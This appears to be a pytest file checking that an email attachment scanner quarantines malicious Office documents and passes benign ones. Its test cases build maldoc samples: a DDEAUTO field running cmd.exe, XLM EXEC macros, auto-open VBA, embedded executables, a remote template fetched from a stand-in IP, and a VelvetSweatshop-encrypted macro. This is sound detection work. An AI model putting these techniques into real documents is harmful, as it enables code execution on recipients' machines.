"""Stock policy, full registry: each Office technique quarantines on its own; benign look-alikes do not."""

import pytest

from kakuri.model import Action
from kakuri.pipeline import Scanner
from tests.builders import make_message
from tests.builders_office import (BUSINESS_MODULES, EMOTET_LIKE_MODULES, doc_with_vba, docx, encrypt_ooxml, exe_stub,
                                   ole10native, ole_package_object, plain_rtf, rtf_with_object, sylk, xls_with_vba,
                                   xls_with_xlm, xlsx, xlsx_by_xlsxwriter)

DDE = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
       ' "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')

MALICIOUS = {
    "vba_autoexec_doc": ("a.doc", lambda: doc_with_vba({"ThisDocument": "Sub Document_Open()\nEnd Sub\n"})),
    "vba_dropper_without_trigger": ("a.docm", lambda: docx(macro={"Module1": EMOTET_LIKE_MODULES["Module1"]})),
    "xlm_xls": ("a.xls", lambda: xls_with_xlm([("EXEC", "calc")])),
    "xlm_sylk": ("a.slk", lambda: sylk(['EXEC("calc")'])),
    "dde_docx": ("a.docx", lambda: docx(DDE)),
    "embedded_exe": ("a.docx", lambda: docx(extra={"word/embeddings/oleObject1.bin": ole_package_object("a.exe", exe_stub())})),
    "remote_template": ("a.docx", lambda: docx(settings_rels=[("", "attachedTemplate", "http://198.51.100.1/t.dotm", True)])),
    "rtf_package_exe": ("a.rtf", lambda: rtf_with_object("Package", ole10native("a.exe", exe_stub(), with_size=False))),
    "velvet_macro": ("a.xlsm", lambda: encrypt_ooxml(xlsx(macro={"ThisWorkbook": "Sub Workbook_Open()\nEnd Sub\n"}),
                                                      "VelvetSweatshop")),
}
BENIGN = {
    "xlsxwriter_workbook": ("見積.xlsx", xlsx_by_xlsxwriter),
    "docx_with_hyperlink": ("a.docx", lambda: docx(doc_rels=[("", "hyperlink", "https://www.example.com/", True)])),
    "xlsx_formula": ("a.xlsx", lambda: xlsx()),
    "plain_rtf": ("a.rtf", plain_rtf),
}


@pytest.fixture(scope="module")
def scanner(tmp_path_factory):
    from kakuri.settings import load_settings

    return Scanner(load_settings(tmp_path_factory.mktemp("data")))


@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_office_technique_quarantines_by_itself(scanner, case):
    name, build = MALICIOUS[case]
    verdict = scanner.scan(make_message(attachments=[(name, build())])).verdict
    assert verdict.action is Action.QUARANTINE, (case, verdict.reasons)


def test_business_macro_without_trigger_is_tagged_not_quarantined(scanner):
    verdict = scanner.scan(make_message(attachments=[("集計.xls", xls_with_vba(BUSINESS_MODULES))])).verdict
    assert verdict.action is Action.TAG, verdict.reasons


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_office_attachment_gets_no_office_finding(scanner, case):
    name, build = BENIGN[case]
    verdict = scanner.scan(make_message(attachments=[(name, build())])).verdict
    assert not [f for f in verdict.findings if f.detector.startswith("office_")]
    assert verdict.action is Action.DELIVER, verdict.reasons
